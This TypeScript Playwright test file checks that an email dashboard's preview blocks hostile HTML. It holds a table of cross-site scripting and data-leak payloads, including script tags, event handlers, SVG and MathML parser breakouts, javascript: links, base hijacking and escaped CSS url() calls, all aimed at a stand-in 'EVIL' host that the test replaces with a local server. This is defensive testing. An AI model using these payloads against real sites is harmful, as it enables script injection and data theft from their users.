/** Hostile HTML can do nothing in the preview of an email, in a frame of the dashboard or opened directly in a browser. */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import { startDashboard, type TestDashboard } from '../../src/doors/http/dashboard/dashboard.fixture.ts';
import { HOSTED_DOMAIN } from '../support/api.ts';
import { NO_BROWSER, startBrowser, type TestBrowser } from '../support/browser.ts';

let dashboard: TestDashboard;
let chromium: TestBrowser;
let context: BrowserContext;
/** A third party's host. Each request or connection that the host receives is a leak. */
let elsewhere: Server;
let received: string[] = [];
let evil: string;

before(async () => {
  if (NO_BROWSER !== false) return;
  elsewhere = createServer((request, response) => {
    received.push(request.url ?? '');
    response
      .writeHead(200, { 'content-type': 'image/svg+xml' })
      .end('<svg xmlns="http://www.w3.org/2000/svg"/>');
  });
  elsewhere.on('connection', () => received.push('connection'));
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  dashboard = await startDashboard();
  chromium = await startBrowser();
  context = await chromium.browser.newContext();
  await context.addCookies([
    { name: 'posthorn_session', value: dashboard.as('developer').token, url: dashboard.baseUrl },
  ]);
});
after(async () => {
  if (NO_BROWSER !== false) return;
  await chromium[Symbol.asyncDispose]();
  await dashboard[Symbol.asyncDispose]();
  elsewhere.close();
});

const PAGE_POLICY =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; frame-src 'self'; base-uri 'none'";

interface Shown {
  page: Page;
  frame: Frame;
  url: string;
}

async function show(html: string, query = ''): Promise<Shown> {
  const sent = await dashboard.project.client.post<{ id: string }>('/v1/emails', {
    from: `a@${HOSTED_DOMAIN}`,
    to: ['b@dst.test'],
    html,
  });
  assert.equal(sent.status, 202);
  const url = `${dashboard.baseUrl}/dashboard/api/projects/${dashboard.projectId}/emails/${sent.body.id}/preview${query}`;
  const page = await context.newPage();
  await page.route(`${dashboard.baseUrl}/around`, (route) =>
    route.fulfill({
      headers: { 'content-type': 'text/html', 'content-security-policy': PAGE_POLICY },
      body: `<!doctype html><title>Around</title><iframe title="Preview" sandbox width="800" height="600" src="${url}"></iframe>`,
    }),
  );
  await page.goto(`${dashboard.baseUrl}/around`, { waitUntil: 'load' });
  const frame = page.frames()[1];
  assert.ok(frame !== undefined);
  await frame.waitForLoadState('load');
  return { page, frame, url };
}

/** Clicks and presses everything that a user could click or press by accident. */
async function tryEverything({ page, frame }: Shown): Promise<void> {
  await page.bringToFront();
  for (const target of await frame.locator('a, area, button, input, [onclick], summary').all())
    await target.click({ force: true, noWaitAfter: true, timeout: 500 }).catch(() => {});
  for (let at = 0; at < 4; at++) {
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
  }
  // Wait for a screenshot, which is taken only after all requests have started. The document itself cannot be asked, because no script runs
  // in it.
  await page.screenshot();
}

/** `EVIL` represents the address of the third party's host, and `OWN` the address of the service. */
const HOSTILE: readonly (readonly [name: string, html: string])[] = [
  [
    'a script',
    '<script>top.location="EVIL/script"; fetch("EVIL/fetch")</script><script src="EVIL/s.js"></script>',
  ],
  [
    'event handlers',
    '<img src=x onerror="new Image().src=\'EVIL/onerror\'"><body onload="location=\'EVIL/onload\'">',
  ],
  ['a script in SVG', '<svg onload="location=\'EVIL/svg\'"><script>location="EVIL/svg2"</script></svg>'],
  [
    'an SVG link in an SVG style element',
    '<svg><style><a xlink:href="EVIL/a"><text y="20">Click</text></a><p><a href="EVIL/b">x</a>',
  ],
  [
    'MathML that breaks out into HTML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=location=\'EVIL/m\'&gt;">',
  ],
  [
    'a noscript element that ends early',
    '<noscript><p title="</noscript><img src=EVIL/n onerror=location=1>">',
  ],
  [
    'links',
    '<a href="EVIL/link">Go</a><a href="EVIL/top" target="_top">Top</a><a href="EVIL/new" target="_blank" ping="EVIL/ping">New</a>',
  ],
  [
    'script and data links',
    '<a href="javascript:location=\'EVIL/js\'">Go</a><a href=" java&#10;script:alert(1)">Go</a><a href="data:text/html,<script>1</script>">Go</a>',
  ],
  [
    'a link to this service',
    '<a href="OWN/dashboard/api/session">Go</a><a href="/docs" target="_top">Go</a>',
  ],
  [
    'an image map',
    '<img usemap="#m" width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=rect coords="0,0,50,50" href="EVIL/area"></map>',
  ],
  [
    'a form',
    '<form action="EVIL/form" method=post><input name=a value=1><button>Send</button></form><button form=f formaction="EVIL/f2">x</button>',
  ],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'],
  ['a base element', '<base href="EVIL/" target="_top"><a href="base">Go</a><img src="base.png">'],
  [
    'frames',
    '<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.location=1</script>"></iframe><object data="EVIL/o"></object><embed src="EVIL/e">',
  ],
  [
    'remote style sheets and fonts',
    '<link rel=stylesheet href="EVIL/l.css"><style>@import "EVIL/i.css"; @font-face{font-family:x;src:url(EVIL/f.woff)} p{font-family:x}</style><p>x</p>',
  ],
  [
    'preconnect, prefetch and preload',
    '<link rel=preconnect href="EVIL"><link rel=dns-prefetch href="EVIL"><link rel=prefetch href="EVIL/p"><link rel=preload as=image href="EVIL/pl">',
  ],
  [
    'preloading in an SVG style element',
    '<svg><style><p><link rel=preconnect href="EVIL"><link rel=preload as=image href="EVIL/p"></p>',
  ],
  [
    'images',
    '<img src="EVIL/i.png" srcset="EVIL/i2.png 2x"><picture><source srcset="EVIL/s.webp"><img src="EVIL/p.png"></picture><input type=image src="EVIL/in"><video poster="EVIL/v" src="EVIL/v2"></video>',
  ],
  [
    'images in styles',
    '<style>body{background:url(EVIL/b.png)}p::after{content:url("EVIL/c.png")}</style><table background="EVIL/t.png"><tr><td style="background-image:image-set(\'EVIL/is\' 1x);list-style:url(EVIL/ls)">x</td></tr></table>',
  ],
  [
    'images in styles with escapes',
    '<style>body{background:\\75rl(EVIL/esc)}</style><p style="background:u\\72 l(EVIL/esc2)">x</p><p style="background:&#117;rl(EVIL/esc3)">y</p>',
  ],
  [
    'markup that breaks out of an attribute',
    '<p title=\'"><img src="EVIL/q">\' style="x:&quot;&gt;&lt;img src=EVIL/q2&gt;">x</p>',
  ],
  [
    'markup that breaks out of a style',
    '<style><@import x;/style><img src="EVIL/st"></style><img src=x onerror="location=\'EVIL/st2\'">',
  ],
  ['an unfinished tag', '<p>x</p><img src="EVIL/half" onerror="location=1"'],
  [
    'a plug-in, an applet and a manifest',
    '<applet code="EVIL/a"></applet><html manifest="EVIL/m"><bgsound src="EVIL/bg">',
  ],
];

describe('an email preview', {
  skip: NO_BROWSER,
}, () => {
  for (const [name, html] of HOSTILE)
    test(`no script, request or window results from ${name}`, async () => {
      const shown = await show(
        `<p>Readable</p>${html}`.replaceAll('EVIL', evil).replaceAll('OWN', dashboard.baseUrl),
      );
      const { page, frame, url } = shown;
      received = [];
      const requested: string[] = [];
      page.on('request', (request) => requested.push(request.url()));
      const pages = context.pages().length;
      await frame.getByText('Readable').waitFor();
      await tryEverything(shown);
      assert.deepEqual(
        requested.filter((each) => !each.startsWith('data:')),
        [],
      );
      assert.deepEqual(received, []);
      assert.equal(new URL(page.url()).pathname, '/around');
      assert.equal(frame.url().split('#')[0], url);
      assert.equal(context.pages().length, pages);
      await page.close();
      // The preview opened directly, without a frame.
      const alone = await context.newPage();
      await alone.goto(url, { waitUntil: 'load' });
      await tryEverything({ page: alone, frame: alone.mainFrame(), url });
      assert.deepEqual(received, []);
      assert.equal(alone.url().split('#')[0], url);
      await alone.close();
    });

  test('only remote images are loaded, and only on request', async () => {
    received = [];
    const html = '<img src="EVIL/i.png"><style>p{background:url(EVIL/b.png)}</style><p>x</p>';
    const { page } = await show(
      `${html}<link rel=stylesheet href="EVIL/l.css"><iframe src="EVIL/f"></iframe>`.replaceAll('EVIL', evil),
      '?remote=1',
    );
    assert.deepEqual(received.filter((each) => each !== 'connection').sort(), ['/b.png', '/i.png']);
    await page.close();
  });
});
